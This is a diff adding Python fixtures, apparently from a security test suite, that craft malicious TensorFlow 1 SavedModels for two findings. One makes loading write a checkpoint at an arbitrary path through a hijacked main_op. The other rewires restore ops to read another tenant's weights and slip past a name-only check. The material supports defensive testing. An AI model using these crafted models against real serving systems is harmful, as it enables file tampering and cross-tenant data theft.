@@ -311,3 +311,91 @@ _HOSTILE: dict[str, Callable[[Any, Any, str], Any]] = {
     "ImmutableConst": _immutable_const,
     "SaveV2": _save_v2_in_serving,
 }
+
+
+# ---- TensorFlow 1 exports that would take over the loader (findings F1 and F2) ----------------------
+
+
+def tf1_names() -> list[str]:
+    return list(_TF1)
+
+
+def export_tf1(name: str, path: Path, *, target: Path) -> Path:
+    """A TF1-style SavedModel (no object graph) whose loader would touch `target` if it ever ran.
+
+    - "main_op writes" (F1): the saver's save tensor names the model's `main_op`, which runs SaveV2 at
+      `target` (a checkpoint prefix: `target.index` appears if it runs). `tf.saved_model.load` runs the
+      `main_op` of a TF1 model.
+    - "restore reads :1" (F2): the restore ops read output 1 of the node the saver's filename tensor
+      names, which passes on a constant holding `target`: a checkpoint of someone else's weights, which
+      this writes first. The check used to compare node names only, so it took this for the saver's file.
+    """
+    import tensorflow as tf
+    from tensorflow.python.ops import gen_io_ops
+
+    v1 = tf.compat.v1
+    graph = tf.Graph()
+    with graph.as_default():
+        x = v1.placeholder(tf.float32, [None, 4], name="x")
+        w = v1.get_variable("w", initializer=tf.ones([4, 3]), use_resource=True)
+        logits = tf.matmul(x, w, name="logits")
+        main_op = None
+        if name == "main_op writes":
+            payload = gen_io_ops.save_v2(str(target), ["pwned"], [""], [tf.constant([1.0])])
+            main_op = tf.group(payload, name="main_op")
+        with v1.Session(graph=graph) as sess:
+            sess.run(v1.global_variables_initializer())
+            if name == "restore reads :1":  # the other tenant's weights, at a path the attacker knows
+                sess.run(w.assign(tf.fill([4, 3], 7.0)))
+                v1.train.Saver({"w": w}).save(sess, str(target), write_meta_graph=False)
+                sess.run(w.assign(tf.ones([4, 3])))
+            builder = v1.saved_model.Builder(str(path))
+            signature = v1.saved_model.predict_signature_def({"x": x}, {"logits": logits})
+            builder.add_meta_graph_and_variables(
+                sess, ["serve"], signature_def_map={"serving_default": signature}, main_op=main_op
+            )
+            builder.save()
+    _TF1[name](path / "saved_model.pb", str(target))
+    return path
+
+
+def _save_tensor_is_main_op(pb: Path, target: str) -> None:
+    proto = _parse(pb)
+    proto.meta_graphs[0].saver_def.save_tensor_name = "main_op"
+    pb.write_bytes(proto.SerializeToString())
+
+
+def _restore_reads_output_1(pb: Path, target: str) -> None:
+    import tensorflow as tf
+
+    proto = _parse(pb)
+    meta = proto.meta_graphs[0]
+    graph = meta.graph_def
+    filename = meta.saver_def.filename_tensor_name.split(":")[0]
+    evil = graph.node.add()
+    evil.name, evil.op = "evil_path", "Const"
+    evil.attr["dtype"].type = tf.string.as_datatype_enum
+    evil.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(target))
+    pair = graph.node.add()
+    pair.name, pair.op = "filename_pair", "IdentityN"
+    pair.input.extend([filename, "evil_path"])
+    pair.attr["T"].list.type.extend([tf.string.as_datatype_enum] * 2)
+    meta.saver_def.filename_tensor_name = "filename_pair:0"
+    for node in graph.node:
+        if node.op == "RestoreV2":
+            node.input[0] = "filename_pair:1"
+    pb.write_bytes(proto.SerializeToString())
+
+
+def _parse(pb: Path) -> Any:
+    from tensorflow.core.protobuf import saved_model_pb2
+
+    proto = saved_model_pb2.SavedModel()
+    proto.ParseFromString(pb.read_bytes())
+    return proto
+
+
+_TF1: dict[str, Callable[[Path, str], None]] = {
+    "main_op writes": _save_tensor_is_main_op,
+    "restore reads :1": _restore_reads_output_1,
+}
